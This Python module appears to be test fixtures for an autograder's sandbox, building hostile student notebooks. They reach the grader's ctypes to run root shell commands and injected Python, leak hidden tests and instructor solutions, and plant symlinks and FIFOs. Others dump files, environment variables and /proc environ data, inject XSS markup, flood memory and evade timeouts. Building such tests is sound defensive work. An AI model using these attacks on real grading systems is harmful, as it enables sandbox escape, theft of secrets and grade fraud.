"""Hostile submissions of 02_forward_pass for the seven attack classes of issue 10.

Each `Hostile` is one student of a grading batch. Unlike tests/adversarial's
attacks, most of these do not try to pass a test with a wrong answer: they try
to get out of the sandbox through what the trusted grader does with their
data, outputs and files afterwards. Classes (issue 10):

1. shadowing a course name (`checks`, `ref`, `np`, the worked examples);
2. code execution in the grader through the clean re-run's RPC handles;
3. trusted code following links (and special files) the student left behind;
4. hidden tests leaking into the student's feedback;
5. script-capable markup in the feedback page;
6. memory amplification in the trusted processes;
7. a cell timeout that does not end the cell.

`twin` names the honest twin of each attack (see TWINS): the same submission
with the attack taken out, the wrong answer left wrong. An attacker must earn,
exercise by exercise, no more than its twin.

An attack may know what a real attacker could find out or guess: where the
course, its gradebook and the submissions live, and the paths of the files it
wants to damage (the canaries; `HostileContext.canary`).
"""

import os
import stat
from dataclasses import dataclass, field
from pathlib import Path

import floods
import nbformat

from . import Context, _cell

# The wrong answers: a consistent kind of wrong (zeros of the right shape, a constant share).
WRONG_FFN = ("def ffn_forward(x, W1, b1, W2, b2):\n"
             "    return np.zeros(np.shape(x)[:-1] + np.shape(W2)[-1:])  # wrong on purpose\n")
WRONG_DEAD = "def dead_fraction(x, W1, b1):\n    return 0.5  # wrong on purpose\n"

# Honest twins: exercise -> its (wrong) answer; every other answer is correct.
TWINS = {
    "correct": {},
    "wrong-ffn": {"ffn_forward": WRONG_FFN},
    "wrong-dead": {"dead_fraction": WRONG_DEAD},
}


@dataclass(frozen=True)
class Hostile:
    student: str
    klass: int  # the attack class of issue 10
    what: str
    build: object  # (ctx, student) -> notebook
    twin: str  # a key of TWINS


@dataclass
class HostileContext(Context):
    """What a hostile submission may know: the course, the submissions, and the files it wants to damage."""

    submitted: str = ""  # the folder of every student's submission
    canary_root: str = ""  # where the canaries live (outside the course)
    evidence: str = ""  # a folder that code escaping the sandbox writes into (must stay empty)
    sparse: str = ""  # a large sparse file outside the course (a bounded stand-in for /dev/zero)
    seed_file: str = ""  # the offering's seed, named in the course's configuration (outside the course)
    canaries: dict = field(default_factory=dict)  # student -> Canary

    def canary(self, student):
        """Two files of this student's own to attack: one root-only (0600 in a 0700 folder), one to overwrite."""
        if student not in self.canaries:
            self.canaries[student] = Canary.create(Path(self.canary_root) / student, student)
        return self.canaries[student]

    def proof(self, student):
        """The file an attack writes when its code ran outside the sandbox."""
        return str(Path(self.evidence) / f"{student}.txt")


@dataclass(frozen=True)
class Canary:
    secret: str  # root-only: 0600 in a 0700 folder
    secret_text: str
    victim: str  # an ordinary file that must not be overwritten
    victim_text: str

    @classmethod
    def create(cls, folder, student):
        folder.mkdir(parents=True, exist_ok=True)
        closed = folder / "root-only"
        closed.mkdir(exist_ok=True)
        os.chmod(closed, 0o700)
        secret, victim = closed / "secret.txt", folder / "precious.txt"
        secret_text = f"ROOT-ONLY-SECRET-of-canary-{student}-{os.urandom(8).hex()}"
        victim_text = f"PRECIOUS-DATA-of-canary-{student}-{os.urandom(8).hex()}"
        secret.write_text(secret_text)
        os.chmod(secret, 0o600)
        victim.write_text(victim_text)
        os.chmod(victim, 0o644)
        return cls(str(secret), secret_text, str(victim), victim_text)

    def state(self):
        """(content, mode) of both files, as they are now."""
        out = []
        for path in (self.secret, self.victim):
            st = os.lstat(path)
            out.append((Path(path).read_bytes() if stat.S_ISREG(st.st_mode) else None, stat.S_IMODE(st.st_mode),
                        stat.S_IFMT(st.st_mode)))
        return out


def _append(nb, *sources):
    """Free learner cells (no nbgrader metadata) at the end of the notebook, after every test."""
    for source in sources:
        nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


def _after(nb, grade_id, source):
    """A free learner cell right after the cell `grade_id`."""
    nb.cells.insert(nb.cells.index(_cell(nb, grade_id)) + 1, nbformat.v4.new_code_cell(source))
    return nb


# ==== 1. shadowing a course name ==========================================================================
NOOP_CHECKS = '''

class checks:
    """Stand-ins for the course's checks that check nothing."""

    @staticmethod
    def check(fn, args, expected, **kwargs):
        return expected

    @staticmethod
    def call(fn, *args, **kwargs):
        return fn(*args)

    @staticmethod
    def ok(*args, **kwargs):
        print("\\u2714 all good")
'''


def shadow_checks_class(ctx, student):
    """The issue's example: `class checks` with no-op methods in the answer cell, next to a wrong answer."""
    return ctx.honest(ffn_forward=WRONG_FFN + NOOP_CHECKS)


def shadow_checks_namespace(ctx, student):
    """`checks` rebound by assignment (not a class or def) in the answer cell."""
    return ctx.honest(ffn_forward=WRONG_FFN + (
        "\n\nimport types\n"
        "checks = types.SimpleNamespace(check=lambda fn, args, expected, **kw: expected,\n"
        "                               call=lambda fn, *args, **kw: fn(*args), ok=lambda *a, **kw: None)\n"))


def shadow_ref_examples(ctx, student):
    """The course's checks stay; the reference (`ref`) and the worked examples W_2, W_3 are the learner's:
    zero weights, whose outputs the zeros answer matches, and a `ref.ffn_forward` that is the answer itself."""
    return ctx.honest(ffn_forward=WRONG_FFN + '''

class W_2:
    """W-2 with every weight zero: the FFN's output is zero."""
    x = np.array([1.0, 0.5, 0.8])
    W1, b1, W2, b2 = np.zeros((3, 4)), np.zeros(4), np.zeros((4, 3)), np.zeros(3)
    params = (W1, b1, W2, b2)
    xW1 = z = h = np.zeros(4)
    y = np.zeros(3)


class W_3:
    x = np.array([2.0, -1.0])
    W1, b1, W2, b2 = np.zeros((2, 4)), np.zeros(4), np.zeros((4, 2)), np.zeros(2)
    params = (W1, b1, W2, b2)
    xW1 = z = h = np.zeros(4)
    y = np.zeros(2)


class ref:
    """The "reference" the hidden test compares with: the answer above."""
    ffn_forward = staticmethod(ffn_forward)

    @staticmethod
    def relu(z):
        return np.maximum(z, 0.0)
''')


def shadow_numpy(ctx, student):
    """`np` becomes a class that forwards to numpy, except that every mean is 0.5, the wrong answer's."""
    return ctx.honest(dead_fraction=WRONG_DEAD + '''

import numpy


class _Forward(type):
    def __getattr__(cls, name):
        return getattr(numpy, name)


class np(metaclass=_Forward):
    """numpy, but np.mean is whatever this answer returns."""

    @staticmethod
    def mean(*args, **kwargs):
        return 0.5
''')


def shadow_in_free_cell(ctx, student):
    """A free cell right after the setup rebinds `checks` and `mistakes` for every test that follows."""
    nb = ctx.honest(ffn_forward=WRONG_FFN)
    return _after(nb, "setup", NOOP_CHECKS.strip() + "\n\n\nclass mistakes:\n"
                                                      "    FFN = LINEAR_TORCH = DEAD_FRACTION = ()\n")


# ==== 2. code execution in the grader through RPC handles =================================================
# In the clean re-run, a learner's `checks.check` is called by the grader with the grader's own Mistake
# objects (mistakes=...), which arrive as handles. Calling a Mistake's `compute` with a Python int too large
# for int64 makes numpy return an object-dtype array, which goes back as a handle too; from an ndarray, the
# ordinary attributes `.ctypes._ctypes` are the grader's ctypes module, and from there `_os`, `_sys` and
# `pythonapi`. In the notebook run (the kernel), the same objects are plain local ones: nothing happens.
GRADER_CTYPES = '''

def _grader_ctypes(mistakes):
    """The grader's ctypes module, reached from handles to the grader's Mistake objects (None in the kernel)."""
    for mistake in mistakes or ():
        if type(mistake).__name__ != "Remote":
            continue
        for args in (([[1.0]], [[1.0]], [0.0], [[2 ** 100]], [0.0]), ([[1.0]], [[2 ** 100]], None)):
            try:
                out = mistake.compute(*args)
            except Exception:
                continue
            if type(out).__name__ == "Remote":
                return out.ctypes._ctypes
    return None


_struck = []


class checks:
    @staticmethod
    def check(fn, args, expected, *, mistakes=(), **kwargs):
        if not _struck:
            grader_ctypes = _grader_ctypes(mistakes)
            if grader_ctypes is not None:
                _struck.append(_strike(grader_ctypes))
        return expected

    @staticmethod
    def call(fn, *args, **kwargs):
        return fn(*args)

    @staticmethod
    def ok(*args, **kwargs):
        print("\\u2714 all good")
'''


def rpc_os_system(ctx, student):
    canary = ctx.canary(student)
    command = (f"id -u > {ctx.proof(student)}; chmod 0644 {canary.secret}; "
               f"echo overwritten by {student} > {canary.victim}")
    return ctx.honest(ffn_forward=WRONG_FFN + GRADER_CTYPES + f'''

def _strike(grader_ctypes):
    """os.system of the grader (root, outside the sandbox)."""
    return grader_ctypes._os.system({command!r})
''')


def rpc_python_in_grader(ctx, student):
    """ctypes.pythonapi.PyRun_SimpleString in the grading worker: its feedback page for this student gets the
    instructor's source notebook (solutions and hidden tests) appended."""
    payload = f'''
import html, json, pathlib, sys
_source = "\\n".join("".join(c["source"]) for p in pathlib.Path({ctx.course!r}).glob("source/*/*.ipynb")
                    for c in json.loads(p.read_text())["cells"])
pathlib.Path({ctx.proof(student)!r}).write_text("ran in the grader")
_feedback = sys.modules["autograder.grading.gate_out.feedback"]
def _render(notebook, result, student, _original=_feedback.render):
    page = _original(notebook, result, student)
    return page + ("<pre>" + html.escape(_source) + "</pre>" if student == {student!r} else "")
_feedback.render = _render
'''
    return ctx.honest(ffn_forward=WRONG_FFN + GRADER_CTYPES + f'''

def _strike(grader_ctypes):
    return grader_ctypes.pythonapi.PyRun_SimpleString({payload.encode()!r})
''')


def rpc_setattr_persist(ctx, student):
    """setattr only, on the grader's own modules: every later test comparison passes, and a test cell earns the
    better of its two runs instead of the worse. It lasts for the rest of the worker's life (later students)."""
    return ctx.honest(ffn_forward=WRONG_FFN + GRADER_CTYPES + '''

def _strike(grader_ctypes):
    modules = grader_ctypes._sys.modules  # the grader's sys.modules, as a dict of handles
    modules["autograder.grading.scoring.results"].min = modules["builtins"].max
    # a grader function: any arguments, returns None
    anything = modules["autograder.grading.gate_beside.rerun"]._Shell().anything
    modules["ffn_helpers.checks"].assert_close = anything
    return True
''')


# ==== 3. trusted code following what the student left in its folder =======================================
# A free cell at the end of the notebook runs in the kernel's working folder, the autograded folder, which
# the grader (root), nbgrader and nbconvert work on afterwards: nbconvert writes the notebook there, nbgrader
# chmods every file, and the grader copies the folder into the course with shutil.copytree's defaults.
def link_chmod(ctx, student):
    """A link to a root-only file: chmodded by nbgrader, then copied (content and all) into the course."""
    canary = ctx.canary(student)
    return _append(ctx.honest(), f"import os\nos.symlink({canary.secret!r}, 'notes.txt')\n")


def link_notebook_overwrite(ctx, student):
    """The notebook itself replaced by a link: nbconvert writes the autograded notebook through it."""
    canary = ctx.canary(student)
    return _append(ctx.honest(), "import os\n"
                                 "if os.path.lexists('02_forward_pass.ipynb'):\n"
                                 "    os.remove('02_forward_pass.ipynb')\n"
                                 f"os.symlink({canary.victim!r}, '02_forward_pass.ipynb')\n")


def link_gradebook(ctx, student):
    """The notebook replaced by a link to the course's gradebook (the batch dies, later students go ungraded)."""
    return _append(ctx.honest(), "import os\n"
                                 "if os.path.lexists('02_forward_pass.ipynb'):\n"
                                 "    os.remove('02_forward_pass.ipynb')\n"
                                 f"os.symlink({ctx.course + '/gradebook.db'!r}, '02_forward_pass.ipynb')\n")


def link_classmates(ctx, student):
    """Links to every submission, the instructor's sources and the gradebook: copied into the course."""
    return _append(ctx.honest(), "import os\n"
                                 f"os.symlink({ctx.submitted!r}, 'classmates')\n"
                                 f"os.symlink({ctx.course + '/source'!r}, 'instructor')\n"
                                 f"os.symlink({ctx.course + '/gradebook.db'!r}, 'grades.db')\n")


def link_loop(ctx, student):
    """A link to the course's autograded/ folder, where the grader copies this very folder: a copy without end."""
    return _append(ctx.honest(), f"import os\nos.symlink({ctx.course + '/autograded'!r}, 'graded')\n")


def special_files(ctx, student):
    """A FIFO in the folder (shutil.copytree fails on it, at the end of the copy)."""
    return _append(ctx.honest(), "import os\nos.mkfifo('pipe')\n")


def link_huge_file(ctx, student):
    """A link to a 1 GiB sparse file, a bounded stand-in for /dev/zero: whoever copies it writes 1 GiB."""
    return _append(ctx.honest(), f"import os\nos.symlink({ctx.sparse!r}, 'dataset.bin')\n")


# ==== 4. hidden tests in the feedback ======================================================================
def leak_history_in_answer(ctx, student):
    """The last answer cell prints IPython's input history, which holds the earlier exercises' hidden tests."""
    return ctx.honest(dead_fraction=ctx.answers["dead_fraction"] + "\n\nprint('\\n'.join(In))\n")


def leak_linecache(ctx, student):
    """IPython keeps every executed cell in linecache (for tracebacks): print the cells."""
    return _append(ctx.honest(), "import linecache, os\n"
                                 "for name, entry in list(linecache.cache.items()):\n"
                                 "    if not os.path.isfile(name) and len(entry) > 2:\n"
                                 "        print(name, ''.join(entry[2]))\n")


def leak_shell_history(ctx, student):
    """The shell's history manager and the `_i` variables."""
    return _append(ctx.honest(), "shell = get_ipython()\n"
                                 "print('\\n'.join(shell.history_manager.input_hist_raw))\n"
                                 "print('\\n'.join(v for k, v in sorted(shell.user_ns.items())\n"
                                 "                 if k.startswith('_i') and isinstance(v, str)))\n")


FRAME_SOURCES = '''
import linecache, sys


def _callers_source():
    """The source of every file on the call stack above this one that is not installed code (cells)."""
    frame, texts = sys._getframe(2), []
    while frame is not None:
        name = frame.f_code.co_filename
        if not any(part in name for part in ("site-packages", "/lib/python", "ffn_helpers")):
            texts.append("".join(linecache.getlines(name)))
        frame = frame.f_back
    return "\\n".join(texts)
'''


def leak_frame_stash(ctx, student):
    """The answer reads its callers' source (the hidden test cell) and a free cell at the end prints it."""
    nb = ctx.honest(dead_fraction=FRAME_SOURCES + "\n\n_stash = []\n\n\n" + ctx.answers["dead_fraction"].replace(
        '"""\n', '"""\n    _stash.append(_callers_source())\n', 1))
    return _append(nb, "print('\\n'.join(_stash))\n")


def leak_frame_raise(ctx, student):
    """The (wrong) answer raises with its callers' source as the message: the test cell's error, in the JSON."""
    return ctx.honest(ffn_forward=FRAME_SOURCES + (
        "\n\ndef ffn_forward(x, W1, b1, W2, b2):\n"
        "    raise ValueError(_callers_source() or 'no caller source')\n"))


def leak_other_checkout(ctx, student):
    """Another checkout of the course (the one the grader's Python comes from, or any other) is readable:
    print the hidden tests of its authored source."""
    return _append(ctx.honest(), '''import glob, os, re, sys
import ffn_helpers

places = set()
for start in [ffn_helpers.__file__, sys.executable, *sys.path]:
    path = os.path.abspath(start or ".")
    while path not in places:
        places.add(path)
        path = os.path.dirname(path)
skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "etc", "var", "run", "snap"}
for top, dirs, _ in os.walk("/"):
    depth = len(top.strip("/").split("/")) if top != "/" else 0
    dirs[:] = [] if depth >= 3 else [d for d in dirs if not (depth == 0 and d in skip)]
    places.add(top)
seen = set()
for place in sorted(places):
    for path in glob.glob(os.path.join(place, "autograder", "course", "source", "*", "*forward_pass*.py")):
        real = os.path.realpath(path)
        if real in seen:
            continue
        seen.add(real)
        try:
            text = open(real).read()
        except OSError:
            continue
        for block in re.findall(r"### BEGIN HIDDEN TESTS(.*?)### END HIDDEN TESTS", text, re.S):
            print(path, block)
print(len(seen), "copies read")
''')


# The answer raises with the report, so that both runs' verdicts carry it (in the clean re-run only the cells an
# answer needs run: this free cell defines what the answer reads). Python's own folders and the system's are
# public; everything else readable is listed, and printed whole in the notebook run.
WALK = r'''import os, site, sys

def _walk(seed_file):
    public = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, sys.exec_prefix, *site.getsitepackages())}
    try:
        import ffn_helpers
        public.add(os.path.dirname(os.path.realpath(ffn_helpers.__file__)))
    except Exception:
        pass
    skip = {"/proc", "/sys", "/dev", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/etc"}
    lines, texts = ["WALK-REPORT", "CWD " + os.getcwd()], []
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip
                   and os.path.realpath(os.path.join(top, d)) not in public]
        for name in files:
            path = os.path.join(top, name)
            try:
                with open(path, "rb") as f:
                    data = f.read(200_000)
            except OSError:
                continue
            lines.append("FILE " + path)
            # one line per file: nbgrader keeps only the first lines a cell prints
            texts.append(f"==== {path}: " + data.decode("utf-8", "replace").replace("\n", " | "))
    lines += [f"ENV {k}={v}" for k, v in sorted(os.environ.items())]
    for top, dirs, _ in os.walk("/"):  # every folder it may write in, and the size of the file system holding it
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys")]
        if os.access(top, os.W_OK):
            fs = os.statvfs(top)
            lines.append(f"WRITABLE {top} {fs.f_blocks * fs.f_frsize}")
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):  # bwrap's own process is pid 1
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                lines.append(f"PROC {pid} environ " + f.read(100_000).decode("utf-8", "replace").replace("\0", " "))
        except OSError:
            pass
    try:
        open(seed_file).read()
        lines.append("SEED-FILE readable")
    except OSError:
        lines.append("SEED-FILE unreadable")
    try:
        from ffn_helpers import checks
        drawn = checks.hidden_seed("02_forward_pass", "test_ffn_forward_hidden")
        lines.append(f"DRAW {checks.private_offering()} {drawn}")
        lines += [f"CHECKS {k}={v!r}" for k, v in sorted(vars(checks).items()) if isinstance(v, int | str)]
    except Exception as exc:
        lines.append(f"DRAW none ({type(exc).__name__})")
    return "\n".join(lines), "\n".join(texts)

WALKED, _contents = _walk(%r)
print(WALKED)
print(_contents)
'''


def walk_files(ctx, student):
    """A free cell walks the file system and prints every file it can read outside Python's and the system's
    folders (the authored source with every hidden test, were it there), the environment, that of every process
    it can see (bwrap's own included) and the offering's seed file; the answer raises with that report, in both runs."""
    nb = ctx.honest(ffn_forward="def ffn_forward(x, W1, b1, W2, b2):\n    raise RuntimeError(WALKED)\n")
    return _after(nb, "setup", WALK % ctx.seed_file)


# ==== 5. script-capable markup in the feedback =============================================================
def xss_png_quote(ctx, student):
    """An image/png output whose "base64" closes the src attribute and adds an onerror handler."""
    return _append(ctx.honest(), "from IPython.display import publish_display_data\n"
                                 "publish_display_data({'image/png': 'iVBORw0KGgo=\" onerror=\"document.title=1',\n"
                                 "                      'text/plain': 'a figure'})\n")


def xss_png_breakout(ctx, student):
    """display(raw=True) with an image/png value that closes the tag: a script, a meta refresh, an iframe."""
    payload = ('x"><script>document.title="pwned"</script>'
               '<meta http-equiv="refresh" content="0;url=https://example.invalid/">'
               '<iframe src="javascript:alert(1)"></iframe><img src="x')
    return _append(ctx.honest(), f"from IPython.display import display\n"
                                 f"display({{'image/png': {payload!r}, 'text/plain': 'plot'}}, raw=True)\n")


def xss_markup_everywhere(ctx, student):
    """Markup in every other place a student controls: text/html and SVG outputs, a markdown cell, an error's
    name and message, a lying result's class name (a flag's detail), a failing test's message."""
    nb = ctx.honest(ffn_forward='''
_Evil = type('<img src=x onerror=alert(1)>', (np.ndarray,), {})


def ffn_forward(x, W1, b1, W2, b2):
    if np.ndim(x) == 1:
        return np.zeros(np.shape(W2)[-1:]).view(_Evil)
    raise ValueError('[click me](javascript:alert(2)) <script>alert(3)</script>')
''')
    nb.cells.append(nbformat.v4.new_markdown_cell(
        "<script>alert(4)</script> [a link](javascript:alert(5)) <iframe src='https://example.invalid'></iframe>\n"
        "<img src=x onerror=alert(6)> <a href=\"javascript:alert(7)\">x</a>"))
    return _append(nb, "from IPython.display import HTML, SVG, display, publish_display_data\n"
                       "display(HTML('<script>alert(8)</script><b onmouseover=alert(9)>hover</b>'))\n"
                       "publish_display_data({'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\" "
                       "onload=\"alert(10)\"><script>alert(11)</script></svg>'})\n"
                       "publish_display_data({'text/markdown': '[x](javascript:alert(12))', "
                       "'text/plain': '<script>alert(13)</script>'})\n",
                   "raise type('<script>alert(14)</script>', (Exception,), {})('<iframe src=javascript:alert(15)>')\n")


# ==== 6. memory amplification in the trusted processes =====================================================
def memory_strings(ctx, student):
    """1 MB on the wire: one long string among 400 short ones; np.asarray makes it 400 x 1M x 4 bytes (1.6 GB)."""
    return ctx.honest(ffn_forward="def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    return ['x' * 1_000_000] + ['y'] * 399\n")


def memory_getitem(ctx, student):
    """An object that serves 64 MiB arrays through __getitem__: the grader's np.asarray gathers 12 of them."""
    return ctx.honest(ffn_forward='''class _Lazy:
    def __len__(self):
        return 12

    def __getitem__(self, i):
        if i >= 12:
            raise IndexError(i)
        return np.ones(2 ** 23)


def ffn_forward(x, W1, b1, W2, b2):
    return _Lazy()
''')


def memory_aliased_buffers(ctx, student):
    """A frame of its own making: one 32 MiB buffer referenced 24 times; the grader decodes 24 copies."""
    return ctx.honest(ffn_forward='''import gc


class _Alias:
    pass


_peer = next((o for o in gc.get_objects() if type(o).__name__ == "StudentPeer"), None)
if _peer is not None:
    _encode = _peer.encode

    def _aliasing_encode(value, buffers, depth=0):
        if isinstance(value, _Alias):
            buffers.append(bytes(32 << 20))
            ref = {"$a": len(buffers) - 1, "dtype": "<f8", "shape": [4 << 20]}
            return [ref] * 24
        return _encode(value, buffers, depth)

    _peer.encode = _aliasing_encode


def ffn_forward(x, W1, b1, W2, b2):
    return _Alias()
''')


def memory_exceptions(ctx, student):
    """Four free cells raise 25 MB exceptions: error outputs are never cut."""
    return _append(ctx.honest(), *["raise ValueError('x' * 25_000_000)\n"] * 4)


def memory_display_metadata(ctx, student):
    """Four displays with 25 MB of metadata each: the output cap counts data and text, not metadata."""
    return _append(ctx.honest(), *["from IPython.display import publish_display_data\n"
                                   "publish_display_data({'text/plain': 'ok'}, metadata={'note': 'x' * 25_000_000})\n"]
                   * 4)


def memory_dict(ctx, student):
    """A dict of 550,000 small tuples (14 MB on the wire), decoded into Python objects in the grader."""
    return ctx.honest(ffn_forward="def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    return {i: (i,) for i in range(550_000)}\n")


def memory_log_flood(ctx, student):
    """Ten thousand IOPub messages of a type nbclient does not know, each named by 4 kB: nbclient would log a line
    for each (40 MB in the grading worker's log)."""
    return _append(ctx.honest(), "kernel = get_ipython().kernel\n"
                                 "parent = kernel.get_parent('shell')\n"
                                 "for i in range(10_000):\n"
                                 "    kernel.session.send(kernel.iopub_socket, 'flood-' + 'x' * 4000, {},\n"
                                 "                        parent=parent)\n")


def memory_stdin_flood(ctx, student):
    """Right after the setup, twenty 200 MiB messages on the kernel's stdin channel, which nothing reads: ZeroMQ
    bounds a queue by messages, not bytes (issue 41; without the channels' budget a worker reached 2.9 GiB)."""
    return _after(ctx.honest(), "setup", floods.flood("stdin", 200 * 2**20, 20, wait=5))


# ==== 7. a cell timeout that does not end the cell ========================================================
def timeout_fd_junk(ctx, student):
    """Junk written to every file descriptor of the kernel (its channels to the grader), then a loop."""
    return _append(ctx.honest(), "import os\n"
                                 "for fd in range(3, 1024):\n"
                                 "    try:\n"
                                 "        os.set_blocking(fd, False)\n"
                                 "        os.write(fd, b'\\xff\\x00junk' * 64)\n"
                                 "    except OSError:\n"
                                 "        pass\n"
                                 "while True:\n"
                                 "    pass\n")


def timeout_ignore_sigint(ctx, student):
    """The last answer cell ignores SIGINT, again and again, in a loop (both runs)."""
    return ctx.honest(dead_fraction=ctx.answers["dead_fraction"] + "\n\nimport signal\n"
                                                                  "while True:\n"
                                                                  "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n")


def timeout_swallow_interrupt(ctx, student):
    """A loop that catches KeyboardInterrupt (and every other exception) and goes on."""
    return _append(ctx.honest(), "import time\n"
                                 "while True:\n"
                                 "    try:\n"
                                 "        time.sleep(0.05)\n"
                                 "    except BaseException:\n"
                                 "        pass\n")


def timeout_deaf_kernel(ctx, student):
    """The kernel's sockets are replaced by /dev/null (it can hear no interrupt message), then a loop."""
    return _append(ctx.honest(), "import os\n"
                                 "null = os.open(os.devnull, os.O_RDWR)\n"
                                 "for fd in range(3, 1024):\n"
                                 "    if fd != null:\n"
                                 "        try:\n"
                                 "            os.dup2(null, fd)\n"
                                 "        except OSError:\n"
                                 "            pass\n"
                                 "while True:\n"
                                 "    pass\n")


HOSTILE = [
    Hostile("hostile-1-checks-class", 1, "answer cell defines `class checks` with no-op methods",
            shadow_checks_class, "wrong-ffn"),
    Hostile("hostile-1-checks-namespace", 1, "answer cell rebinds `checks` to a SimpleNamespace of no-ops",
            shadow_checks_namespace, "wrong-ffn"),
    Hostile("hostile-1-ref-examples", 1, "answer cell defines `ref`, `W_2`, `W_3`: zero weights, ref = the answer",
            shadow_ref_examples, "wrong-ffn"),
    Hostile("hostile-1-numpy", 1, "answer cell defines `class np` forwarding to numpy with np.mean = 0.5",
            shadow_numpy, "wrong-dead"),
    Hostile("hostile-1-free-cell", 1, "free cell after the setup defines no-op `checks` and empty `mistakes`",
            shadow_in_free_cell, "wrong-ffn"),
    Hostile("hostile-2-rpc-os-system", 2, "from mistakes= handles to the grader's os.system: chmods and "
            "overwrites canaries as root", rpc_os_system, "wrong-ffn"),
    Hostile("hostile-2-rpc-pythonapi", 2, "from mistakes= handles to ctypes.pythonapi.PyRun_SimpleString: "
            "patches the worker's feedback to append the instructor's source",
            rpc_python_in_grader, "wrong-ffn"),
    Hostile("hostile-3-link-chmod", 3, "symlink to a root-only 0600 file in a 0700 folder",
            link_chmod, "correct"),
    Hostile("hostile-3-link-notebook", 3, "the autograded notebook replaced by a symlink to a file outside",
            link_notebook_overwrite, "correct"),
    Hostile("hostile-3-link-classmates", 3, "symlinks to the submissions, the instructor sources, gradebook.db",
            link_classmates, "correct"),
    Hostile("hostile-3-link-huge", 3, "symlink to a 1 GiB sparse file (bounded stand-in for /dev/zero)",
            link_huge_file, "correct"),
    Hostile("hostile-4-history-answer", 4, "the last answer cell prints `In`",
            leak_history_in_answer, "correct"),
    Hostile("hostile-4-linecache", 4, "free cell at the end prints linecache's copies of the cells",
            leak_linecache, "correct"),
    Hostile("hostile-4-shell-history", 4, "free cell at the end prints history_manager.input_hist_raw and `_i*`",
            leak_shell_history, "correct"),
    Hostile("hostile-4-frame-stash", 4, "dead_fraction stashes its callers' source (sys._getframe), printed later",
            leak_frame_stash, "correct"),
    Hostile("hostile-4-frame-raise", 4, "ffn_forward raises with its callers' source as the message",
            leak_frame_raise, "wrong-ffn"),
    Hostile("hostile-4-other-checkout", 4, "reads autograder/course/source of any checkout visible in the sandbox",
            leak_other_checkout, "correct"),
    Hostile("hostile-4-walk-files", 4, "free cell prints every readable file, the environment and the seed file",
            walk_files, "wrong-ffn"),
    Hostile("hostile-5-png-quote", 5, "image/png value with a quote and onerror=",
            xss_png_quote, "correct"),
    Hostile("hostile-5-png-breakout", 5, "image/png value closing the tag: <script>, <meta refresh>, <iframe>",
            xss_png_breakout, "correct"),
    Hostile("hostile-5-markup", 5, "markup in text/html, SVG, markdown, error names/messages, flag details",
            xss_markup_everywhere, "wrong-ffn"),
    Hostile("hostile-6-strings", 6, "returns one 1 MB string among 399 short ones (np.asarray: 1.6 GB)",
            memory_strings, "wrong-ffn"),
    Hostile("hostile-6-getitem", 6, "returns an object serving twelve 64 MiB arrays through __getitem__",
            memory_getitem, "wrong-ffn"),
    Hostile("hostile-6-aliased", 6, "a hand-made frame referencing one 32 MiB buffer 24 times",
            memory_aliased_buffers, "wrong-ffn"),
    Hostile("hostile-6-exceptions", 6, "four free cells raising 25 MB exceptions",
            memory_exceptions, "correct"),
    Hostile("hostile-6-metadata", 6, "four displays with 25 MB of metadata each",
            memory_display_metadata, "correct"),
    Hostile("hostile-6-dict", 6, "returns a dict of 550,000 tuples",
            memory_dict, "wrong-ffn"),
    Hostile("hostile-6-log-flood", 6, "10,000 IOPub messages of an unknown type, 4 kB each: a log line each",
            memory_log_flood, "correct"),
    Hostile("hostile-6-stdin-flood", 6, "twenty 200 MiB messages on the kernel's stdin channel, which nothing reads",
            memory_stdin_flood, "correct"),
    Hostile("hostile-7-fd-junk", 7, "junk written to every kernel file descriptor, then a busy loop",
            timeout_fd_junk, "correct"),
    Hostile("hostile-7-ignore-sigint", 7, "the last answer cell ignores SIGINT in a loop",
            timeout_ignore_sigint, "correct"),
    Hostile("hostile-7-swallow-interrupt", 7, "a loop that catches KeyboardInterrupt and goes on",
            timeout_swallow_interrupt, "correct"),
    Hostile("hostile-7-deaf-kernel", 7, "the kernel's sockets dup2'ed to /dev/null, then a busy loop",
            timeout_deaf_kernel, "correct"),
    # The setattr attack changes its grading worker for every later student: its id sorts after the other
    # attackers, so that the students after it are honest ones (TWIN_STUDENTS and the late victim).
    Hostile("hostile-8-rpc-setattr", 2, "from mistakes= handles, setattr on the grader's modules: "
            "results.min = max, checks.assert_close = a no-op (lasts for later students)",
            rpc_setattr_persist, "wrong-ffn"),
    # These end the whole batch with the current grader (a broken gradebook, a copy that fails): their ids
    # sort last, so that everyone else is graded first.
    Hostile("zz-hostile-link-gradebook", 3, "the autograded notebook replaced by a symlink to the course gradebook",
            link_gradebook, "correct"),
    Hostile("zz-hostile-fifo", 3, "a FIFO left in the autograded folder", special_files, "correct"),
    Hostile("zz-hostile-link-loop", 3, "a symlink to the course's autograded/ folder (the copy's own target)",
            link_loop, "correct"),
]

# The honest students that are the twins (besides honest-correct), and one honest student graded after every
# attacker but the last two (a victim of what an attacker left behind in its worker).
TWIN_STUDENTS = {"correct": "honest-correct", "wrong-ffn": "twin-wrong-ffn", "wrong-dead": "twin-wrong-dead"}
LATE_VICTIM = "victim-unfinished"
